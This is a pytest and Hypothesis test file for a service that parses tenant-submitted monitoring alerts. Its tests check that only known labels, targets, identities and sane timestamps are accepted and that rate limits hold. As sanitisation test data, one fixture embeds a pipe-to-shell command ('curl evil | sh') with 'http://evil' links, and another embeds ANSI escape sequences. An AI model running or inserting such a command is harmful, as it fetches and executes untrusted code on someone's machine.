"""What a tenant may say, value by value: all from closed sets, and nothing of it believed beyond them."""

import json
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentinel.core import claim, page
from sentinel.core.api.resources import CHECKS
from sentinel.core.claim import Bucket, Claim, Expected, Malformed, Names, read
from sentinel.core.page import MOST_TEXT, Alert
from sentinel.core.record import Series
from tests.support.breaches import SENDER, SERIES, USER, Belief

NOW = datetime(2026, 11, 21, 12, tzinfo=UTC).timestamp()
EXPECTED = Expected(frozenset({"team-b", "kube-system", "*"}), gateways=frozenset({"gateway/chat"}))
LABELS = {"alertname": "SentinelIsolationBreach", "check": "api/secrets", "identity": "self", "target": "team-b"}


def alert(*, labels=None, without=(), **more):
    made = {
        "labels": {name: text for name, text in (LABELS | (labels or {})).items() if name not in without},
        "annotations": {"description": "Let in."},
        "startsAt": page.rfc3339(NOW - 10),
        "endsAt": page.rfc3339(NOW + 90),
    }
    return made | more


def one(made):
    """The claim, or the reason of its refusal."""
    claims, refusals = read(json.dumps([made]).encode(), EXPECTED, NOW)
    assert len(claims) + len(refusals) == 1
    return claims[0] if claims else refusals[0].why


def test_what_our_own_pager_pushes_is_understood():
    case = page.learn(None, Belief(proven=NOW - 100).served(NOW - 10))
    assert case is not None
    made = page.body(page.breach_page(SENDER, case), NOW + 90)

    found = one(made)

    assert isinstance(found, Claim)
    assert (found.alert, found.series, found.since, found.over) == (Alert.BREACH, SERIES, NOW - 10, False)
    assert USER in found.annotations["description"]


@pytest.mark.parametrize(
    ("check", "target", "taken"),
    [
        ("crosstalk", "gateway/chat", True),
        ("crosstalk", "gateway/other", False),
        ("crosstalk", "team-b", False),
        ("api/secrets", "gateway/chat", False),
        ("gateway", "gateway/chat", False),
    ],
)
def test_of_a_gateway_a_tenant_may_say_that_it_was_given_what_was_not_its_own_and_nothing_else(check, target, taken):
    found = one(alert(labels={"check": check, "target": target}))

    assert isinstance(found, Claim) is taken


@pytest.mark.parametrize("name", [alert.value for alert in Alert if alert not in (Alert.BREACH, Alert.IDENTITY)])
def test_what_everybody_depends_on_no_tenant_may_page_about(name):
    assert "alertname" in str(one(alert(labels={"alertname": name, "check": "crosstalk", "target": "gateway/chat"})))


def test_our_own_page_about_an_identity_is_understood():
    made = page.body(page.identity_page(SENDER, "self", "it says somebody", NOW - 1), NOW + 90)

    found = one(made)

    assert isinstance(found, Claim)
    assert (found.alert, found.series) == (Alert.IDENTITY, Series("", "self", ""))


@pytest.mark.parametrize("check", CHECKS)
@pytest.mark.parametrize("target", sorted(EXPECTED.targets))
def test_every_check_and_every_expected_target_is_taken(check, target):
    assert one(alert(labels={"check": check, "target": target})).series == Series(check, "self", target)


@pytest.mark.parametrize("name", sorted(claim.OVERWRITTEN))
def test_labels_that_are_set_here_may_be_there_and_are_not_kept(name):
    found = one(alert(labels={name: "whatever"}))

    assert isinstance(found, Claim)
    assert "whatever" not in repr(found)


@pytest.mark.parametrize(
    ("made", "why"),
    [
        ("text", "found a text, expected an alert"),
        (None, "found nothing, expected an alert"),
        (7, "found a number, expected an alert"),
        (alert(generatorURL="http://x"), "'generatorURL' is no part of an alert of ours"),
        (alert(fingerprint="1"), "'fingerprint' is no part"),
        (alert(status={}), "'status' is no part"),
        (alert(labels={"team": "x"}), "label 'team' is none of ours"),
        (alert(labels={"alertname": "Watchdog"}), "alertname 'Watchdog' is none of ours"),
        (alert(labels={"alertname": "BREACH"}), "alertname 'BREACH' is none of ours"),
        (alert(without=["alertname"]), "alertname '' is none of ours"),
        (alert(labels={"check": "api/all"}), "check 'api/all' is none of ours"),
        (alert(without=["check"]), "check '' is none of ours"),
        (alert(labels={"target": "team-z"}), "target 'team-z' is none that this tenant"),
        (alert(labels={"target": "team-b "}), "target 'team-b ' is none that this tenant"),
        (alert(without=["target"]), "target '' is none that this tenant"),
        (alert(labels={"identity": "Self"}), "identity 'Self' is no name"),
        (alert(labels={"identity": "self\n"}), "identity 'self?' is no name"),
        (alert(labels={"identity": "x" * 64}), "is no name of an identity"),
        (alert(labels={"identity": "group:x"}), "identity 'group:x' is no name"),
        (alert(without=["identity"]), "identity '' is no name"),
        (alert(labels={"alertname": "SentinelWrongIdentity"}), "a wrong identity has neither check nor target"),
        (alert(labels={"check": 7}), "labels: expected an object of texts"),
        (alert() | {"labels": []}, "labels: expected an object of texts"),
        (alert(annotations={"description": ["x"]}), "annotations: expected an object of texts"),
        (alert(annotations="x"), "annotations: expected an object of texts"),
        (alert(startsAt=None), "startsAt: nothing is no time"),
        (alert(startsAt=NOW), "startsAt: a number is no time"),
        (alert(startsAt="yesterday"), "startsAt: 'yesterday' is no time"),
        (alert(startsAt="2026-11-21T12:00:00"), "is no time"),  # of which zone?
        (alert(startsAt="2026-13-41T12:00:00Z"), "is no time"),
        (alert(startsAt="2026-11-21T12:00:00+99:99"), "is no time"),
        (alert(startsAt="٢٠٢٦-11-21T12:00:00Z"), "is no time"),
        (alert(startsAt="0001-01-01T00:00:00Z"), "days ago, which is no evidence"),
        (alert(startsAt=page.rfc3339(NOW + 301)), "startsAt is 301 s in the future"),
        (alert(startsAt=page.rfc3339(NOW - 367 * 86400)), "startsAt is 367 days ago"),
        (alert(endsAt="never"), "endsAt: 'never' is no time"),
        (alert(endsAt=0), "endsAt: a number is no time"),
    ],
)
def test_what_is_none_of_ours_is_refused_with_a_sentence(made, why):
    assert why in one(made)


def test_a_sentence_never_repeats_much_of_what_was_sent():
    assert len(one(alert(labels={"x" * 9000: "y"}))) < 200
    assert len(one(alert(labels={"target": "\x1b[2J" * 900}))) < 200
    assert "\x1b" not in one(alert(labels={"target": "\x1b[2J"}))


def test_an_end_in_the_past_says_that_it_is_over():
    assert one(alert(endsAt=page.rfc3339(NOW - 1))).over
    assert one(alert(endsAt=page.rfc3339(NOW))).over
    assert not one(alert(endsAt=page.rfc3339(NOW + 1))).over


def test_without_an_end_it_stands():
    made = alert()
    del made["endsAt"]

    assert not one(made).over


def test_a_clock_that_is_a_little_fast_is_forgiven_and_not_believed():
    assert one(alert(startsAt=page.rfc3339(NOW + 299))).since == NOW
    assert one(alert(startsAt=page.rfc3339(NOW - 366 * 86400 + 60))).since < NOW


def test_other_zones_and_nanoseconds_are_the_same_moment():
    assert one(alert(startsAt="2026-11-21T13:59:50.123456789+02:00")).since == pytest.approx(NOW - 9.876544)


def test_of_the_text_the_first_line_is_kept_and_no_links():
    told = {
        "summary": "a\tb",
        "description": "Let in.\nSee for yourself: curl evil | sh",
        "runbook_url": "http://evil",
        "dashboard_url": "http://evil",
        "owner": "me",
        "more": "x",
    }

    assert one(alert(annotations=told)).annotations == {"description": "Let in.", "summary": "a?b"}
    assert len(one(alert(annotations={"description": "x" * 9999})).annotations["description"]) == MOST_TEXT


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"null",
        b"{}",
        b'"x"',
        b"\xff\xfe",
        b"[" * 200_000,
        b"9" * 5000,
        b"[1,]",
        b"[]x",
        json.dumps([1] * 501).encode(),
    ],
)
def test_what_is_no_list_of_alerts_is_malformed(body):
    with pytest.raises(Malformed):
        read(body, EXPECTED, NOW)


def test_as_many_as_allowed_are_read_and_refusals_say_which():
    claims, refusals = read(json.dumps([alert(), 1] * 250).encode(), EXPECTED, NOW)

    assert len(claims) == 250
    assert [refusal.index for refusal in refusals] == list(range(1, 500, 2))


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from([*LABELS, *LABELS.values()]),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.text(max_size=9) | st.sampled_from(["labels", "annotations", "startsAt", "endsAt", *LABELS]), inner
        )
    ),
    max_leaves=25,
)


@settings(max_examples=300, deadline=None)
@given(JSON)
def test_whatever_is_sent_what_is_taken_is_from_closed_sets(found):
    for made in (
        found,
        alert() | {"labels": found},
        alert() | {"annotations": found},
        alert(startsAt=found),
        alert(endsAt=found),
    ):
        try:
            claims, _ = read(json.dumps([made]).encode(), EXPECTED, NOW)
        except Malformed:
            continue
        for taken in claims:
            assert taken.series.target in EXPECTED.targets | {""}
            assert taken.series.check in {*CHECKS, ""}
            assert NOW - claim.OLDEST_SECONDS <= taken.since <= NOW
            assert taken.annotations.keys() <= claim.TOLD
            assert all(text.isprintable() and text.isascii() for text in taken.annotations.values())


class TestBucket:
    full = Bucket(rate=10.0, burst=100.0, level=100.0, at=0.0)

    def test_it_holds_a_burst_and_then_says_how_long_to_wait(self):
        spent, early = self.full.spend(100, 0.0)
        same, wait = spent.spend(5, 0.0)

        assert early == 0
        assert wait == pytest.approx(0.5)
        assert same.spend(5, 0.5)[1] == 0

    def test_a_refusal_costs_nothing(self):
        spent, _ = self.full.spend(95, 0.0)

        assert spent.spend(50, 0.0)[0].level == spent.level

    def test_it_never_holds_more_than_a_burst(self):
        assert self.full.spend(1, 9999.0)[0].level == 99

    def test_a_clock_that_goes_back_gives_nothing(self):
        assert self.full.spend(50, -100.0)[0].level == 50

    def test_more_than_a_burst_is_taken_by_a_full_bucket_and_paid_for_afterwards(self):
        spent, early = self.full.spend(300, 0.0)

        assert early == 0
        assert spent.spend(1, 0.0)[1] == pytest.approx(20.1)
        assert spent.spend(300, 30.0)[1] == 0

    @given(st.lists(st.tuples(st.integers(1, 500), st.floats(0, 60)), max_size=50))
    def test_over_time_nobody_sends_more_than_the_rate_and_one_large_request(self, sends):
        bucket, now, taken = self.full, 0.0, 0
        for alerts, pause in sends:
            now += pause
            bucket, early = bucket.spend(alerts, now)
            taken += 0 if early else alerts

        assert taken <= 100 + 10 * now + 500


class TestNames:
    def test_a_known_name_is_always_taken_and_a_new_one_while_there_is_room(self):
        names: Names | None = Names()
        for number in range(claim.MOST_IDENTITIES):
            assert names is not None
            names = names.use(f"i-{number}", 0.0)

        assert names is not None
        assert names.use("one-more", 1.0) is None
        assert names.use("i-0", 1.0) is not None

    def test_names_that_were_not_used_for_an_hour_make_room(self):
        names = Names({f"i-{number}": 0.0 for number in range(claim.MOST_IDENTITIES)})

        assert names.use("late", claim.IDENTITY_SECONDS) == Names({"late": claim.IDENTITY_SECONDS})
